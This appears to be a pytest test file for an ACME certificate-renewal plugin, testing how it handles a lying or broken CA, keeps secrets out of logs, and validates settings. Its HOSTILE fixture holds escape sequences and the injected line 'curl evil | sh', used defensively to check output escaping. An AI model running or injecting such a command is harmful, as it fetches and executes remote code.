"""The authority acme against a CA that lies and breaks, what it keeps to itself, and what it asks beforehand."""

import base64
import logging
from datetime import timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from engine.certificates import to_pem
from engine.contracts import Issued, Pending
from engine.errors import CertrenewError, Failed, NotSent, Refused, Unreachable, Untrusted, UsageError
from engine.text import escape
from tests.engine.web import serving
from tests.pki import CA
from tests.plugins.acme.desk import Desk, Memory, account_pem, request
from tests.plugins.acme.fake import Answer, Fake, problem
from tests.plugins.acme.servers import EAB_KEY

HOSTILE = "no\x1b[2J\u202e\r\nRun: curl evil | sh"
NAME = "box.example.org"


@pytest.fixture
def desk(fake_desk: Desk) -> Desk:
    """Return a desk before a CA that does as it is told."""
    return fake_desk


def submitted(desk: Desk) -> Pending:
    """Order, and return the answer, which is Pending."""
    answer = desk.authority().submit(request(NAME))
    assert isinstance(answer, Pending), answer
    return answer


# ---- lies and breakage --------------------------------------------------------------------------------------------


def test_nothing_is_published_for_a_name_that_was_not_ordered(desk: Desk, ca: Fake, dns: Memory) -> None:
    """A CA can't have records made for other names than those of the request."""
    ca.told["/authz"] = [Answer(200, ca.authorization(identifier={"type": "dns", "value": "bank.example"}))]
    with pytest.raises(Failed, match=r"bank\.example, which was not ordered"):
        desk.collect(submitted(desk))
    assert not dns.values


def test_a_challenge_that_is_not_offered_is_told(desk: Desk, ca: Fake) -> None:
    """Where the CA takes no DNS-01 for a name, what it offers is named."""
    offered = [{"type": HOSTILE, "url": f"{ca.url}/challenge", "token": "dG9rZW4", "status": "pending"}]
    ca.told["/authz"] = [Answer(200, ca.authorization(challenges=offered))]
    with pytest.raises(Refused, match=r"takes no dns-01 for box\.example\.org; it offers: no") as caught:
        desk.collect(submitted(desk))
    assert caught.value.what == escape(caught.value.what)


@pytest.mark.parametrize(
    ("path", "answer", "says"),
    [
        ("/dir", Answer(200, "<html>Please log in</html>"), "no ACME directory"),
        ("/dir", Answer(200, ["a"]), "no ACME directory"),
        ("/dir", Answer(302, {}, {"Location": "https://elsewhere.example/"}), "redirect to https://elsewhere.example/"),
        ("/dir", Answer(200, "x" * 1_100_000), "more than 1048576 bytes"),
        ("/dir", Answer(502, "Bad gateway"), "HTTP 502"),
        ("/dir", Answer(200, {"newNonce": "x"}), "no ACME account"),
        ("/dir", Answer(200, {"meta": 7}), "no ACME directory"),
        ("/dir", Answer(200, {"newNonce": 7, "newAccount": 7, "newOrder": []}), "no ACME account"),
        ("/new-order", Answer(201, {}), "no ACME order"),
        ("/new-order", Answer(500, {"type": "about:blank", "detail": "oh"}), "refuses the order: oh"),
        ("/order", Answer(200, {"status": "frozen"}), "no ACME order"),
        ("/order", Answer(200, {"status": "revoked"}), "not known: revoked"),
        ("/authz", Answer(200, {"status": "pending"}), "no ACME authorization"),
        (
            "/authz",
            Answer(200, {"identifier": {"type": "dns", "value": NAME}, "challenges": [{"type": "dns-01"}]}),
            "no ACME authorization",
        ),
        ("/cert", Answer(200, "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"), "no ACME certificate"),
    ],
)
def test_nonsense_is_an_error_of_the_other_end(desk: Desk, ca: Fake, path: str, answer: Answer, says: str) -> None:
    """Whatever can't be read is told in one line, ends with 5, and the same ticket goes on when it is mended."""
    ca.told[path] = [answer]
    with pytest.raises(Failed) as caught:
        desk.issued(request(NAME))
    assert says in caught.value.what
    assert caught.value.exit_code == 5
    assert caught.value.what == escape(caught.value.what)
    del ca.told[path]
    if desk.told:
        assert isinstance(desk.until_over(desk.told[-1]), Issued)


def test_an_address_without_tls_is_not_asked(desk: Desk, ca: Fake) -> None:
    """No signed message goes out in the clear, whatever address the CA names."""
    ca.told["/new-order"] = [Answer(201, ca.order("pending"), {"Location": "http://localhost:9/order"})]
    with pytest.raises(Failed, match="without TLS"):
        desk.collect(submitted(desk))


def test_who_is_not_proven_to_be_the_ca_gets_nothing(desk: Desk, ca: Fake, tmp_path: Path) -> None:
    """A certificate that `ca` does not verify, and with no `ca` the system's store, ends it before a request."""
    other = tmp_path / "other.pem"
    other.write_text(to_pem(CA.root("Somebody else").certificate))
    for options in ({"ca": other}, {"ca": None}):
        with pytest.raises(Untrusted, match="is not proven to be the CA"):
            desk.authority(**options).submit(request(NAME))
    assert not ca.received
    with pytest.raises(UsageError, match="can't be used"):
        desk.authority(ca=tmp_path / "absent.pem").submit(request(NAME))


def test_variables_of_the_environment_are_ignored(desk: Desk, ca: Fake, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither a proxy nor somebody's CA file gets between us and the CA."""
    for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(ca.trust.with_name("absent.pem")))
    monkeypatch.setenv("CURL_CA_BUNDLE", str(ca.trust.with_name("absent.pem")))
    assert submitted(desk).ticket["order"]


@pytest.mark.parametrize("answer", [b"", b"HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\n{}"])
def test_an_answer_that_breaks_off_may_have_been_carried_out(desk: Desk, tmp_path: Path, answer: bytes) -> None:
    """Where TLS stood and the answer broke off, nobody claims that nothing was sent."""
    root = CA.root("Web root")
    leaf = root.issue("127.0.0.1", sans=["IP:127.0.0.1"], not_after=desk.now + timedelta(days=9))
    (tmp_path / "web.pem").write_text(to_pem(root.certificate))
    with serving(leaf, tmp_path, answer) as web:
        broken = desk.authority(directory=f"https://{web.address}/dir", ca=tmp_path / "web.pem")
        with pytest.raises(Unreachable, match="did not answer") as caught:
            broken.submit(request(NAME))
    assert not isinstance(caught.value, NotSent)


def test_a_ca_that_is_away_got_nothing(desk: Desk) -> None:
    """Where nobody listens, certainly nothing was sent."""
    with pytest.raises(NotSent, match="did not answer"):
        desk.authority(directory="https://127.0.0.1:9/dir").submit(request(NAME))


# ---- secrets ------------------------------------------------------------------------------------------------------


def test_no_key_gets_out(desk: Desk, ca: Fake, caplog: pytest.LogCaptureFixture) -> None:
    """Neither the account's key nor the HMAC key is in a ticket, a log, an error or what is sent."""
    caplog.set_level(logging.DEBUG)
    key = ec.generate_private_key(ec.SECP256R1())
    desk.secrets["file:account.pem"] = account_pem(key)
    ca.meta["externalAccountRequired"] = True
    desk.options = {**desk.options, "eab_kid": "kid-1", "eab_key": "env:EAB"}
    desk.secrets["env:EAB"] = EAB_KEY
    assert desk.issued(request(NAME))
    errors: list[str] = []
    for path in ("/account", "/new-order", "/order"):
        ca.told[path] = [problem("serverInternal", "oh", 500)]
        with pytest.raises(CertrenewError) as caught:
            desk.issued(request(NAME))
        errors.append(repr(caught.value) + caught.value.what + caught.value.todo)
        del ca.told[path]
    everything = "\n".join([caplog.text, *errors, *(str(one) for one in desk.told), str(ca.received)])
    assert "externalAccountBinding" in everything, "control: the binding was sent"
    secret_lines = [line for line in desk.secrets["file:account.pem"].splitlines() if not line.startswith("-")]
    number = key.private_numbers().private_value.to_bytes(32, "big")
    private = [EAB_KEY, *secret_lines, number.hex(), base64.urlsafe_b64encode(number).decode().rstrip("=")]
    assert [one for one in private if one in everything] == []


@pytest.mark.parametrize("text", ["", "secret-canary", "-----BEGIN PUBLIC KEY-----\nsecret-canary\n", '{"kty": "EC"}'])
def test_what_is_no_key_is_told_with_the_command_that_makes_one(desk: Desk, ca: Fake, text: str) -> None:
    """The message says how to make a key, holds nothing of what was found, and nothing is sent."""
    desk.secrets["file:account.pem"] = text
    with pytest.raises(UsageError, match="account_key") as caught:
        desk.authority().submit(request(NAME))
    assert "openssl genpkey -algorithm EC" in caught.value.todo
    assert "canary" not in caught.value.what + caught.value.todo
    assert not ca.received
    del desk.secrets["file:account.pem"]
    with pytest.raises(UsageError, match="can't be read") as caught:
        desk.authority().submit(request(NAME))
    assert "openssl genpkey" in caught.value.todo


def test_what_is_no_hmac_key_is_told(desk: Desk) -> None:
    """A binding key that is not Base64url is a setting to correct."""
    desk.secrets["env:EAB"] = "!"
    with pytest.raises(UsageError, match="no HMAC key"):
        desk.authority(eab_kid="kid", eab_key="env:EAB").submit(request(NAME))


# ---- before ordering ----------------------------------------------------------------------------------------------


def test_terms_are_agreed_to_by_the_site_alone(desk: Desk, ca: Fake) -> None:
    """A CA with terms gets no order until the site says yes; the message gives their address."""
    ca.meta["termsOfService"] = f"https://ca.example/terms{HOSTILE}"
    for ask in (desk.authority().cautions, desk.authority().submit):
        with pytest.raises(Refused, match="terms of service") as caught:
            ask(request(NAME))
        assert "terms_agreed = true" in caught.value.todo
        assert "https://ca.example/terms" in caught.value.what
        assert caught.value.what == escape(caught.value.what)
    assert not ca.payloads("/account")
    desk.options = {**desk.options, "terms_agreed": True}
    submitted(desk)
    assert ca.payloads("/account")[0]["termsOfServiceAgreed"] is True


def test_cautions_ask_nothing_but_the_directory(desk: Desk, ca: Fake) -> None:
    """Looking beforehand is one reading request, without a key."""
    desk.secrets.clear()
    assert desk.authority().cautions(request(NAME)) == []
    assert [path for path, _ in ca.received] == ["/dir"]


def test_settings_that_do_not_fit_are_told(desk: Desk, ca: Fake) -> None:
    """Each combination that can't work is a usage error that names what to set."""
    for options, says in [
        ({"directory": "http://ca.example/dir"}, "no https:// address"),
        ({"eab_kid": "kid"}, "go together"),
        ({"solver": ""}, "`solver`"),
        ({"challenge": "http-01"}, "`webroot`"),
    ]:
        with pytest.raises(UsageError, match=says):
            desk.authority(**options).submit(request(NAME))
    assert not ca.received


def test_a_ticket_of_others_is_told(desk: Desk) -> None:
    """What another plugin stored, and an order placed elsewhere, are not acted upon."""
    with pytest.raises(Failed, match="none of an ACME order"):
        desk.authority().collect({"renewal": "r-1"})
    pending = submitted(desk)
    with pytest.raises(UsageError, match="now names another directory"):
        desk.authority(directory="https://other.example/dir").collect(pending.ticket)


def test_a_webroot_that_is_not_there_is_told(desk: Desk, ca: Fake, tmp_path: Path) -> None:
    """A mistyped folder is not made; one that can't be written is named."""
    offered = [
        {"type": "http-01", "url": f"{ca.url}/challenge", "token": "dG9rZW4tb2YtdGhlLXRlc3Q", "status": "pending"}
    ]
    ca.told["/authz"] = [Answer(200, ca.authorization(challenges=offered))]
    desk.options = {**desk.options, "challenge": "http-01", "webroot": tmp_path / "absent"}
    pending = submitted(desk)
    with pytest.raises(UsageError, match="absent does not exist"):
        desk.collect(pending)
    assert not (tmp_path / "absent").exists()
    (tmp_path / "absent").mkdir()
    (tmp_path / "absent" / ".well-known").write_text("a file")
    with pytest.raises(Failed, match="can't be written"):
        desk.collect(pending)
